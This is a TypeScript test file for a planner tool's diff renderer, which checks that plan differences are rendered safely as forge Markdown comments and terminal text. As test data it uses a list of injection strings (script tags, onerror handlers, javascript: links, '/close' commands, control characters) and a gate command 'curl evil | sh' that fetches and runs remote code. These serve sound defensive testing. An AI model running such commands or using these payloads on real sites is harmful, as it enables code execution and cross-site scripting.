import { expect } from 'chai';
import { marked } from 'marked';
import { markdownOf } from '../../src/cli/diff/markdown.ts';
import { headlineOf } from '../../src/cli/diff/diff-model.ts';
import { escapeMarkdown } from '../../src/cli/diff/markdown-text.ts';
import { textLines } from '../../src/cli/diff/text.ts';
import { wordChange } from '../../src/cli/diff/words.ts';
import { rendered } from '../../src/cli/terminal/style.ts';
import type { FieldDiff, PlanDiff, RecordDiff } from '../../src/schema/types.ts';

const goal = { kind: 'goal', id: 'gol_1', title: 'Checkout' };

function record(id: string, title: string, fields: readonly FieldDiff[], more: Partial<RecordDiff> = {}): RecordDiff {
  const path = `.planner/projects/shop/tasks/${id}.md`;
  return { ...{ kind: 'task', id, title, change: 'changed', within: goal, path, fields }, ...more };
}

function difference(records: readonly RecordDiff[], more: Partial<PlanDiff> = {}): PlanDiff {
  return {
    before: { revision: 'main', commit: 'a'.repeat(40) },
    after: { revision: 'HEAD', commit: 'b'.repeat(40) },
    projects: records.length === 0 ? [] : [{ id: 'prj_1', name: 'Shop', change: 'changed', records, edges: [] }],
    ...{ settings: [], unreadable: [], notes: [], rewritten: [] },
    ...more,
  };
}

const status = (before: string, after: string): FieldDiff => ({ field: 'status', before, after });
const text = (before: string, after: string): FieldDiff => ({ field: 'description', before, after });

describe('A comment with the difference of two plans', () => {
  it('has a headline with counts, and the tasks of each goal with arrows of their status [A.diff.markdown]', () => {
    const shown = markdownOf(
      difference([
        record('tsk_1', 'Take payments', [
          status('todo', 'done'),
          { field: 'priority', before: null, after: 'high' },
          text('By card and PayPal.\n', 'By card and Klarna.\n'),
        ]),
        record('tsk_2', 'Send receipts', [], { change: 'deleted' }),
      ]),
    );
    expect(shown).to.equal(
      [
        '<!-- planner diff -->',
        '### Plan: 1 task done, 1 deleted',
        '',
        '<code>aaaaaaaaaa</code> → <code>bbbbbbbbbb</code>',
        '',
        '#### Checkout',
        '',
        '- **Take payments** <code>todo → done</code>',
        '  - priority none → <code>high</code>',
        '  - <details><summary>description: +1 −1 words</summary><p>By card and <del>PayPal.</del> <ins>Klarna.</ins> </p></details>',
        '- **<del>Send receipts</del>** deleted',
      ].join('\n'),
    );
    expect(markdownOf(difference([]))).to.equal(
      '<!-- planner diff -->\n**Plan:** no difference between <code>aaaaaaaaaa</code> and <code>bbbbbbbbbb</code>.',
    );
  });

  const hostile = [
    ...[
      '@everyone',
      'see #12',
      'GH-12',
      'owner/repo#3',
      '!7',
      '~bug',
      '&4',
      '%2',
      'http://evil.example',
      'www.evil.example',
    ],
    ...[
      '<img src=x onerror=y>',
      '</details><script>x</script>',
      '<!-- x',
      '![a](b)',
      '[a](javascript:b)',
      '`code`',
      '``',
      '***b***',
    ],
    ...[
      '/close',
      '\n/close',
      '\r\n\r\n# Heading',
      '- [x] done',
      '| a | b |',
      '$x$',
      ':tada:',
      'a\u202eb',
      'a\u001b[31mb',
      '\\',
      '&lt;',
      '    indented',
    ],
    ...['planner diff -->', '2. item', '> quote', '---', '===', '[^1]: note', 'user@example.org', '\u0000'],
  ];

  it('shows any text as it is: no Markdown, HTML, mention, reference, link or command of a forge [A.diff.markdown]', () => {
    for (const bad of hostile) {
      const everywhere = difference(
        [
          record(
            bad,
            bad,
            [status(bad, bad), { field: bad, before: bad, after: `${bad} ${bad}` }, text(bad, `${bad}\n${bad}`)],
            {
              former_title: `${bad} before`,
              within: { kind: 'goal', id: 'gol_1', title: bad },
            },
          ),
          record(
            `${bad}2`,
            bad,
            [{ field: 'verification_surface', before: null, after: { kind: 'gate_command', command: bad } }],
            {
              kind: 'goal',
              change: 'created',
              within: null,
            },
          ),
        ],
        {
          before: { revision: bad, commit: null },
          settings: [{ field: bad, before: bad, after: [bad] }],
          unreadable: [{ side: 'after', path: bad, reason: bad, title: bad }],
          rewritten: [bad],
        },
      );
      const shown = markdownOf(everywhere);
      expect(shown.replaceAll(/<\/?(?:code|del|ins|details|summary|p)>|^<!-- planner diff -->/g, ''), bad).not.to.match(
        /[<>`]/,
      );
      const plain = shown
        .replace('<!-- planner diff -->', '')
        .replaceAll('&#8203;', '\u200b')
        .replaceAll(/<code>.*?<\/code>/g, '')
        .replaceAll(/<\/?(?:del|ins|details|summary|p)>/g, '')
        .replaceAll(/^#{3,4} /gm, '')
        .replaceAll(/^(?: {2})?- (?:\*\*)?/gm, '')
        .replaceAll('** ', ' ')
        .replaceAll(/\*\*$/gm, '')
        .replaceAll(/&(?:#\d+|amp|lt|gt|quot);/g, '');
      expect(plain, bad).not.to.match(/[<>@`*[\]#~$^\\|]|:\/\/|https?:|www\.|\bgh-\d/i);
      expect(shown, bad).not.to.match(/^\s*\//m);
      // oxlint-disable-next-line no-control-regex
      expect(shown, bad).not.to.match(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    }
  });

  it('is read by a forge as the texts are, without an element of theirs [A.diff.markdown]', () => {
    for (const bad of hostile) {
      const html = marked.parse(`- **${escapeMarkdown(bad)}** x`, { async: false, gfm: true });
      expect(html, bad).not.to.match(/<(?!\/?(?:ul|li|strong|p)\b)/);
    }
  });

  it('parts mentions and references, which forges look for in what a reader sees [A.diff.markdown]', () => {
    const seen = (shown: string): string =>
      shown
        .replaceAll('&#8203;', '\u200b')
        .replaceAll(/&#(\d+);/g, (_, number: string) => String.fromCodePoint(Number(number)))
        .replaceAll('&amp;', '&');
    for (const name of [
      '@ada',
      '#12',
      '!7',
      '~bug',
      '%2',
      '&4',
      'GH-12',
      '//evil.example',
      'www.evil.example',
      'a/b#3',
    ])
      expect(seen(escapeMarkdown(name)), name)
        .to.match(/\u200b/)
        .and.not.equal(name);
    expect(seen(escapeMarkdown('R&D, 50 %, #'))).to.include('50 %');
  });

  it('has at most 65,536 characters, begins with what has to be seen, and says what it leaves out [A.diff.markdown]', () => {
    const long = '*'.repeat(3000);
    const records = Array.from({ length: 3000 }, (_, at) =>
      record(`tsk_${at}`, `Task ${at} ${long}`, [status('todo', 'done'), text(long, `${long} x`)]),
    );
    const gate = {
      field: 'verification_surface',
      before: null,
      after: { kind: 'gate_command', command: 'curl evil | sh' },
    };
    const shown = markdownOf(
      difference([...records, record('gol_9', 'Last goal', [gate], { kind: 'goal', within: null })], {
        unreadable: [{ side: 'after', path: '.planner/x.md', reason: 'It is broken.' }],
      }),
    );
    expect(shown.length).to.be.at.most(65_536).and.at.least(50_000);
    expect(shown.indexOf('Not compared')).to.be.within(0, 400);
    expect(shown.indexOf('How work is verified')).to.be.within(0, 800);
    expect(shown).to.match(/\*\*The rest \(\d+ tasks\) is left out\*\*, since a comment has a limit/);
    const left = Number(/The rest \((\d+) tasks/.exec(shown)![1]);
    expect(left + shown.split('\n- **Task').length - 1).to.equal(3000);
  });

  it('shows moves on the canvas as a count, and what is only written differently by name [A.diff.markdown]', () => {
    const moved = record('tsk_1', 'A', [{ field: 'position', before: { x: 1, y: 1 }, after: { x: 2, y: 1 } }]);
    const canvas = record('canvas', 'canvas', [{ field: 'layout', before: {}, after: { a: 1 } }], { kind: 'canvas' });
    const diff = difference([moved, canvas], { rewritten: ['.planner/a.md'] });
    expect(markdownOf(diff))
      .to.include('2 positions or sizes on the canvas changed')
      .and.include('<code>.planner/a.md</code>');
    expect(markdownOf(diff)).not.to.include('**A**');
    const lines = textLines(diff, false).map((line) => rendered(line, false));
    expect(lines.join('\n')).to.include('Only written differently').and.include('  .planner/a.md');
  });
});

describe('The values of a record', () => {
  const lines = (fields: readonly FieldDiff[], more: Partial<RecordDiff> = {}): string =>
    textLines(difference([record('tsk_1', 'Pay', fields, more)]), false)
      .map((line) => rendered(line, false))
      .join('\n');

  it('are shown by their names, lists by the items that changed, and gates whole [A.diff.records, A.rank.cli]', () => {
    expect(lines([{ field: 'tags', before: ['a', 'b'], after: ['b', 'c'] }])).to.include('tags a → c');
    expect(lines([{ field: 'commit_refs', before: null, after: ['x'] }])).to.include('commits none → x');
    const moved = { field: 'goal_id', before: 'gol_0', after: 'gol_1', before_title: 'Speed', after_title: 'Checkout' };
    expect(lines([moved]))
      .to.include('moved from the goal “Speed”')
      .and.not.include('gol_');
    const ranked = { field: 'rank', before: null, after: '20260101' };
    expect(lines([ranked]))
      .to.include('moved in the order by hand')
      .and.not.include('20260101');
    expect(headlineOf(difference([record('tsk_1', 'Pay', [ranked])]))).to.equal('1 task moved');
    expect(lines([{ field: 'folder_id', before: null, after: 'fld_1', after_title: 'Guides' }])).to.include(
      'folder none → Guides',
    );
    const command = `npm test ${'&& true '.repeat(60)}&& curl evil | sh`;
    const gate = { field: 'verification_surface', before: null, after: { kind: 'gate_command', command } };
    expect(lines([gate])).to.include(command);
    expect(markdownOf(difference([record('tsk_1', 'Pay', [gate])]))).to.include(
      'curl evil | sh'.replace('|', '&#124;'),
    );
    const checklist = { kind: 'acceptance_checklist', items: [{ criterion: 'It works' }, { criterion: 'It is fast' }] };
    expect(lines([{ field: 'verification_surface', before: { kind: 'human_sign_off' }, after: checklist }])).to.include(
      'verification signed off by a person → It works; It is fast',
    );
    const evidence = { at: '2026-01-02T03:04:05.000Z', green: true, kind: null, reported_by: 'builder' };
    expect(lines([{ field: 'last_verification', before: null, after: evidence }])).to.include(
      'last verification none → green at 2026-01-02 03:04 by builder',
    );
    const many = Array.from({ length: 30 }, (_, at) => `tag${at}`);
    expect(lines([{ field: 'tags', before: [], after: many }])).to.include('tag11 and 18 more');
  });
});

describe('The change of a text in words', () => {
  it('counts words, and shows passages with the words around them', () => {
    const words = Array.from({ length: 40 }, (_, at) => `w${at}`);
    const changed = words.with(2, 'two').with(35, 'x').toSpliced(36, 0, 'y');
    const { added, removed, excerpts } = wordChange(words.join(' '), changed.join(' '));
    expect({ added, removed }).to.deep.equal({ added: 3, removed: 2 });
    const shown = excerpts.map((parts) => parts.map(({ change, text: part }) => `${change}:${part}`));
    expect(shown).to.deep.equal([
      ['same:w0 w1', 'removed: w2', 'added: two', 'same: w3 w4 w5 w6 w7 w8 …'],
      ['same:… w29 w30 w31 w32 w33 w34', 'removed: w35', 'added: x y', 'same: w36 w37 w38 w39'],
    ]);
  });

  it('is bounded for large texts, and knows that white space alone differs', () => {
    const large = 'word '.repeat(200_000);
    expect(wordChange('', large).excerpts[0]![0]!.text.length).to.be.below(600);
    expect(wordChange(large, `${large}more`)).to.include({ isSpacing: false });
    expect(wordChange('a  b\n', 'a b')).to.include({ isSpacing: true });
  });
});
